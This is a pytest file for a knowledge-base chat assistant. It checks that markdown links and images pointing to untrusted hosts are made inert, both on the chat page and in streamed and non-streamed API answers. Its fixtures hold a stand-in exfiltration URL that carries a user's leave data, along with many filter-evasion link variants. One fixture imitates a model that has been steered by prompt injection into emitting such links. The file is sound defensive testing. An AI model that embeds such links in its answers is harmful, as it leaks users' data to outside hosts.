"""Answers carry one link policy to every output: links and images to hosts that are not
trusted are made inert on the chat page and in `/v1` answers, streamed or not, so that a
client rendering the markdown fetches nothing and sends nothing elsewhere."""

import random

import openai
import pytest

from kb_assistant.accounts.models import api_token_create
from kb_assistant.chat.links import HOLD_LIMIT, LinkPolicy, StreamLinkFilter
from kb_assistant.chat.rendering import render_markdown
from tests.chat.conftest import HARD_TRAVEL_QUESTION

POLICY = LinkPolicy.of(["intranet.example.com"])
LEAK = "https://attacker.example/collect?q=25%20days%20for%20alice"


@pytest.mark.parametrize(
    ("answer", "inert"),
    [
        (f"See ![chart]({LEAK}).", "See chart."),
        (f"See [the form]({LEAK}).", "See the form."),
        (f"Mail <{LEAK}>.", f"Mail `{LEAK}`."),
        (f'Quote <img src="{LEAK}" alt="x"> end', "Quote  end"),
        (f"<img alt='a>b' src=\"{LEAK}\">", ""),
        (f'<p style="background: url({LEAK})">x</p>', "x</p>"),
        (f"[r]: {LEAK}\n![x][r]", "\n![x][r]"),
        (f"[![logo]({LEAK})](https://intranet.example.com/)", "[logo](https://intranet.example.com/)"),
        ("[x](https&#58;//attacker.example/)", "x"),  # an entity a renderer decodes
        ("[x](//attacker.example/)", "x"),
        ("[x](/\\attacker.example/)", "x"),  # browsers read a backslash as a slash
        ("[x](https://intranet.example.com@attacker.example/)", "x"),
        ("[x](mailto:hr@intranet.example.com,me@attacker.example)", "x"),
        ("[x](javascript:alert(1))", "x"),
        ("[x](<https://attacker.example/a b>)", "x"),
    ],
)
def test_links_and_images_to_untrusted_hosts_are_made_inert(answer, inert):
    assert POLICY.apply(answer) == inert


@pytest.mark.parametrize(
    "answer",
    [
        "See [the portal](https://intranet.example.com/leave) [1].",
        "See [HR](https://hr.intranet.example.com/) and [the form](/kb/documents/3/).",
        "Write to <hr@intranet.example.com>; 3 < 5 and [2] stay.",
        '<a href="https://intranet.example.com/">portal</a> <b>bold</b>',
        f"A bare address shows all it carries: {LEAK}",
    ],
)
def test_trusted_relative_and_plain_text_stay_as_they_are(answer):
    assert POLICY.apply(answer) == answer


MIXED = (
    f"Leave is 25 days [1]. ![c]({LEAK}) See [the portal](https://intranet.example.com/a_(b)) "
    f'or [this]({LEAK} "t"). <img\nsrc="{LEAK}">\n[r]:\n {LEAK}\n<{LEAK}> \\[x]({LEAK}) end!'
)


def test_a_stream_cut_anywhere_gives_what_the_whole_answer_gives():
    expected = POLICY.apply(MIXED)
    assert expected.count("attacker.example") == 2  # the autolink as code, and the escaped one as text
    shuffled = random.Random(13)
    for _ in range(300):
        cuts = sorted(shuffled.sample(range(1, len(MIXED)), 6))
        links = StreamLinkFilter(POLICY)
        pieces = [MIXED[a:b] for a, b in zip([0, *cuts], [*cuts, len(MIXED)], strict=True)]
        assert "".join(links.feed(piece) for piece in pieces) + links.flush() == expected, pieces


def test_a_stream_holds_only_what_may_still_become_a_link():
    links = StreamLinkFilter(POLICY)
    assert links.feed("Leave is 25 days [1]. See ") == "Leave is 25 days [1]. See "
    assert links.feed("[the form](https://attacker") == ""
    assert links.feed(".example/x) now") == "the form now"


def test_a_link_that_never_closes_is_released_escaped_after_the_hold_limit():
    links = StreamLinkFilter(POLICY)
    released = links.feed("[" + "x" * (HOLD_LIMIT + 1))
    released += links.feed(f"]({LEAK})") + links.flush()
    assert released.startswith("\\[")  # an escaped bracket opens no link, whatever follows


def test_the_chat_page_renders_under_the_same_policy(settings):
    settings.KB_TRUSTED_LINK_HOSTS = ["intranet.example.com"]
    html = render_markdown(f"See [the form]({LEAK}) or [the portal](https://intranet.example.com/leave).")
    assert "attacker" not in html and "the form" in html
    assert 'href="https://intranet.example.com/leave"' in html


def test_trusted_hosts_come_from_the_environment(monkeypatch):
    from django.core.exceptions import ImproperlyConfigured

    from kb_assistant.env import env_hosts

    monkeypatch.setenv("KB_TRUSTED_LINK_HOSTS", "Intranet.Example.com, *.corp.example")
    assert env_hosts("KB_TRUSTED_LINK_HOSTS") == ["intranet.example.com", "*.corp.example"]
    monkeypatch.setenv("KB_TRUSTED_LINK_HOSTS", "https://intranet.example.com/")
    with pytest.raises(ImproperlyConfigured, match="KB_TRUSTED_LINK_HOSTS must list host names"):
        env_hosts("KB_TRUSTED_LINK_HOSTS")


PORTAL = "[the travel portal](https://portal.northwind.example/travel)"
REPLY = f"Trips abroad need the director's approval ![status]({LEAK}). Details are in {PORTAL} and [here]({LEAK})."


@pytest.fixture
def replying_cloud(cloud, settings):
    """A cloud model that answers with links and an image to another host, as an injected
    instruction would make it do."""
    settings.KB_TRUSTED_LINK_HOSTS = ["northwind.example"]
    cloud.mode, cloud.reply = "reply", REPLY
    return cloud


def sdk(live_server, user) -> openai.OpenAI:
    return openai.OpenAI(
        base_url=f"{live_server.url}/v1", api_key=api_token_create(user=user), max_retries=0, timeout=300
    )


QUESTION = [{"role": "user", "content": HARD_TRAVEL_QUESTION}]


def assert_inert(answer: str) -> None:
    assert "attacker.example" not in answer and "director's approval" in answer
    assert PORTAL in answer


@pytest.mark.django_db(transaction=True)
def test_v1_answers_carry_no_link_to_an_untrusted_host(live_server, handbook, alice, replying_cloud):
    completion = sdk(live_server, alice).chat.completions.create(model="hybrid-kb", messages=QUESTION)

    assert completion.model_extra["kb"]["route"] == "cloud", "the reply came from the cloud"
    assert_inert(completion.choices[0].message.content)


@pytest.mark.django_db(transaction=True)
def test_v1_streamed_answers_carry_no_link_to_an_untrusted_host(live_server, handbook, alice, replying_cloud):
    stream = sdk(live_server, alice).chat.completions.create(
        model="hybrid-kb", messages=QUESTION, stream=True
    )
    pieces = [c.choices[0].delta.content for c in stream if c.choices and c.choices[0].delta.content]

    assert len(pieces) > 1, "the answer was streamed in pieces"
    assert all("attacker" not in piece for piece in pieces)
    assert_inert("".join(pieces))
